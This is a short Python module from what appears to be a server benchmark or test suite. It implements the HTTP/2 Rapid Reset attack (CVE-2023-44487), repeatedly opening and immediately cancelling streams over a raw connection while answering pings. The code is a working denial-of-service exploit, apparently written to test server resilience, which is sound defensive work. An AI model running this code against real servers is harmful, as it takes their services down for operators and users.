"""Streams that are opened and cancelled at once (CVE-2023-44487)."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from itertools import count
from threading import Thread

from bench.attacks.connections import one_by_one
from tests.server import frames
from tests.server.connection import RawConnection

CANCEL = struct.pack(">I", 8)
STREAMS_PER_STEP = 100


def steps(port: int) -> Iterator[None]:
    """Open and cancel ``STREAMS_PER_STEP`` streams in each step, as fast as the server reads."""
    return one_by_one(port, _reset)


def _reset(wire: RawConnection) -> Iterator[None]:
    # The server may wait for the answer to a ping before it accepts more streams.
    Thread(target=wire.answer_pings, daemon=True).start()
    for first in count(1, 2 * STREAMS_PER_STEP):
        for stream in range(first, first + 2 * STREAMS_PER_STEP, 2):
            wire.send(
                frames.headers(stream, frames.TRANSLATE),
                frames.frame(frames.RST_STREAM, 0, stream, CANCEL),
            )
        yield
